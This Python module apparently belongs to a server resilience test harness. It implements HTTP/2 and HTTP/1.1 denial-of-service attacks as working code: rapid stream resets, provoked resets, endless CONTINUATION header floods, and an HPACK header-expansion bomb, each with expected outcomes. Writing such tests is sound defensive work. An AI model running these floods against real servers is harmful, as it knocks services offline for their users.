"""Attacks by header blocks and by streams that are opened and given up."""

import http2
from attack import GOES, REFUSES, Attack
from header_blocks import indexed, kept_literal, literal, literal_start

DYNAMIC = 62  # the index of the newest field in the dynamic table
KEPT_VALUE_BYTES = 4000  # fits the table of 4,096 bytes
VALUE_BYTES = 4000


def rapid_reset(scene):
    """Whole requests, each given up at once."""
    block, payload = http2.request_block(http2.RANGE), http2.range_request(b"large", b"large~")

    def unit(number):
        return http2.call(2 * number + 1, block, payload) + http2.reset(2 * number + 1)

    pour_again(scene, unit, scene.size["resets"])


def provoked_resets(scene):
    """Streams that break a rule, so that the server itself resets them: by a header's name, or by an increment of
    nothing."""
    bad_block = http2.request_block(http2.RANGE) + literal("Upper-Case", "x")
    block = http2.request_block(http2.RANGE)

    def bad_header(number):
        return http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * number + 1, bad_block)

    def bad_increment(number):
        stream = 2 * number + 1
        return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block) + http2.window_update(stream, 0)

    pour_again(scene, lambda number: (bad_header, bad_increment)[len(scene.peers) % 2](number), scene.size["resets"])


def pour_again(scene, unit, count, hello=None, one_block=False, calls=False):
    """Pours on one connection after the other, until the server lets one live; frames of one header block, or any.
    `calls`: each unit is a whole call, and a connection on which the server has ended all of them is given up."""
    def act():
        peer = scene.connect(hello)
        peer.answers_frames = not one_block
        sent = scene.pour(peer, unit, count)
        scene.mark("poured")
        scene.most = max(getattr(scene, "most", 0), sent)
        if calls and scene.run(scene.patience_s, lambda: not peer.open or peer.finished >= sent) and peer.open:
            peer.leave("left by the attacker")
        return [peer]

    scene.again_and_again(act)
    scene.note(f"at most {scene.most} sent on a connection")


def large_field(number):
    return literal(f"x-hostile-{number}", b"v" * VALUE_BYTES)


def endless_block(scene):
    """A header block that goes on in CONTINUATION frames, without an end. Its first frame is an ordinary one, for a
    server that looks at that alone."""
    per_frame = http2.FRAME_BYTES_MAX // (VALUE_BYTES + 30)

    def unit(number):
        if number == 0:
            return http2.frame(http2.HEADERS, 0, 1, http2.request_block(http2.RANGE))
        fields = b"".join(large_field(number * per_frame + each) for each in range(per_frame))
        return http2.frame(http2.CONTINUATION, 0, 1, fields)

    pour_again(scene, unit, scene.size["mib"] * 2 ** 20 // (per_frame * VALUE_BYTES), one_block=True)


def endless_field(scene):
    """The same, of one field whose value goes on."""
    piece = b"v" * http2.FRAME_BYTES_MAX
    frames = scene.size["mib"] * 2 ** 20 // len(piece)
    start = literal_start("x-hostile", scene.size["mib"] * 2 ** 20 + len(piece))

    def unit(number):
        if number == 0:
            return http2.frame(http2.HEADERS, 0, 1, http2.request_block(http2.RANGE) + start)
        return http2.frame(http2.CONTINUATION, 0, 1, piece)

    pour_again(scene, unit, frames, one_block=True)


def endless_http1(scene):
    """A request of HTTP/1.1 whose headers do not end."""
    line = b"X-Hostile: " + b"v" * VALUE_BYTES + b"\r\n"

    def unit(number):
        return b"GET /health HTTP/1.1\r\nHost: localhost\r\n" if number == 0 else line

    pour_again(scene, unit, scene.size["mib"] * 2 ** 20 // len(line), hello=b"")


def empty_continuations(scene):
    """The same, in frames that carry nothing."""
    def unit(number):
        if number == 0:
            return http2.frame(http2.HEADERS, 0, 1, http2.request_block(http2.RANGE))
        return http2.frame(http2.CONTINUATION, 0, 1)

    pour_again(scene, unit, scene.size["frames"], one_block=True)


def large_headers(scene):
    """Streams that each have many large headers, behind an ordinary frame, and go on after them."""
    fields = [b"".join(large_field(4 * frame + each) for each in range(4)) for frame in range(2)]

    def unit(number):
        stream = 2 * number + 1
        return (http2.frame(http2.HEADERS, 0, stream, http2.request_block(http2.RANGE)) +
                http2.frame(http2.CONTINUATION, 0, stream, fields[0]) +
                http2.frame(http2.CONTINUATION, http2.END_HEADERS, stream, fields[1]))

    pour_again(scene, unit, scene.size["streams"], one_block=True, calls=True)


def header_bomb(scene):
    """One field of 4,000 bytes that the server keeps, and blocks that name it by one byte, thousands of times, behind
    an ordinary frame."""
    block = http2.request_block(http2.RANGE)
    names = indexed(DYNAMIC) * scene.size["names"]

    def unit(number):
        first = kept_literal("x-bomb", b"v" * KEPT_VALUE_BYTES) if number == 0 else b""
        return (http2.frame(http2.HEADERS, 0, 2 * number + 1, block) +
                http2.frame(http2.CONTINUATION, http2.END_HEADERS, 2 * number + 1, first + names))

    pour_again(scene, unit, scene.size["streams"], one_block=True)


ATTACKS = {
    "rapid-reset": Attack(
        "calls that are reset at once", rapid_reset, dict(resets=20000, connections=20),
        dict(resets=20000, connections=50), GOES, 48, store=dict(keys=4, bytes=250000)),
    "provoked-resets": Attack(
        "streams that the server must reset", provoked_resets, dict(resets=20000, connections=20),
        dict(resets=20000, connections=50), GOES, 48),
    "endless-block": Attack(
        "header blocks without an end", endless_block, dict(mib=96, connections=20), dict(mib=2000, connections=3),
        GOES, 32),
    "endless-field": Attack(
        "a header without an end", endless_field, dict(mib=96, connections=20), dict(mib=2000, connections=3),
        GOES, 32),
    "endless-http1": Attack(
        "a request of HTTP/1.1 without an end", endless_http1, dict(mib=96, connections=20),
        dict(mib=2000, connections=3), GOES, 32),
    "empty-continuations": Attack(
        "header blocks without an end, in empty frames", empty_continuations, dict(frames=100000, connections=20),
        dict(frames=1000000, connections=50), GOES, 32),
    "large-headers": Attack(
        "streams with many large headers", large_headers, dict(streams=1000, connections=10),
        dict(streams=1000, connections=50), REFUSES, 48),
    "header-bomb": Attack(
        "small header blocks that unfold", header_bomb, dict(streams=20, names=10000, connections=20),
        dict(streams=200, names=12000, connections=50), GOES, 48),
}
